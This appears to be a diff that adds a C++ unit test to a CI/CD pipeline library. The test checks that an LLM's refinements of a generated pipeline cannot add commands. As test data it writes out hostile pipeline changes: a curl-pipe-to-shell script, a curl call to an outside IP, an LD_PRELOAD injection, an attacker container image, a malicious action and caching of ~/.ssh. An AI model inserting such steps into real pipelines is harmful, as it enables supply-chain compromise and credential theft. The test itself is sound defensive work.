@@ -4,6 +4,7 @@
 
 #include <filesystem>
 #include <fstream>
+#include <functional>
 #include <sstream>
 
 namespace dai::cicd {
@@ -183,6 +184,52 @@ TEST(Pipeline, JsonRoundTripAndBadDefinitions) {
   EXPECT_EQ(PipelineToJson(*back), PipelineToJson(*p));
   auto bad = PipelineFromJson(ParseJson(R"({"jobs":[{"id":"a","steps":[{"argv":[1]}]}]})").value());
   EXPECT_NE(bad.status().message().find("definition.jobs[0].steps[0].argv"), std::string::npos);
+}
+
+// An LLM's refinement may rearrange what the generated pipeline does, never add to it.
+TEST(Pipeline, RefinementsMayRearrangeButNeverAddCommands) {
+  Pipeline gen;
+  gen.name = "ci";
+  gen.jobs = {J("build", {}, {S("deps", {"npm", "ci"}), S("build", {"npm", "run", "build"})}),
+              J("test", {"build"}, {S("deps", {"npm", "ci"}), S("test", {"npm", "test"})})};
+  ASSERT_TRUE(ValidatePipeline(gen).ok());
+  // Parallel jobs, a step dropped, renamed, a timeout changed: accepted.
+  Pipeline ok = gen;
+  ok.name = "refined";
+  ok.jobs[1].needs.clear();
+  ok.jobs[0].steps.pop_back();
+  ok.jobs[0].name = "install";
+  ok.jobs[1].timeout_minutes = 10;
+  EXPECT_TRUE(CheckRefinement(gen, ok).ok()) << CheckRefinement(gen, ok).ToString();
+  struct Case {
+    std::function<void(Pipeline&)> change;
+    const char* message;
+  } cases[] = {
+      {[](Pipeline& p) {
+         p.jobs[0].steps.push_back(S("x", {"curl", "http://203.0.113.9"}));
+       },
+       "job build step 3 (x): the command curl http://203.0.113.9 is not one"},
+      {[](Pipeline& p) { p.jobs[0].steps[0].argv.push_back("--ignore-scripts=false"); },
+       "job build step 1 (deps): the command"},
+      {[](Pipeline& p) { p.jobs[1].steps[0].run = "curl x | sh"; }, "a script (run) is new"},
+      {[](Pipeline& p) { p.jobs[1].steps[0].env["LD_PRELOAD"] = "/tmp/x.so"; },
+       "the environment variable LD_PRELOAD is new"},
+      {[](Pipeline& p) { p.jobs[0].image = "attacker/image"; }, "image \"attacker/image\" is new"},
+      {[](Pipeline& p) { p.jobs[0].steps[0].uses = "evil/action@v1"; },
+       "the action evil/action@v1 is new"},
+      {[](Pipeline& p) {
+         p.jobs[0].caches.push_back({"~/.ssh", "x"});
+       },
+       "cache ~/.ssh is new"},
+      {[](Pipeline& p) { p.jobs[1].needs = {"nope"}; }, "the suggestion"},
+  };
+  for (const auto& c : cases) {
+    Pipeline bad = gen;
+    c.change(bad);
+    const Status st = CheckRefinement(gen, bad);
+    EXPECT_EQ(st.code(), StatusCode::kInvalidArgument) << c.message;
+    EXPECT_NE(st.message().find(c.message), std::string::npos) << st.message();
+  }
 }
 
 TEST(Workflow, BadYamlAndStructure) {
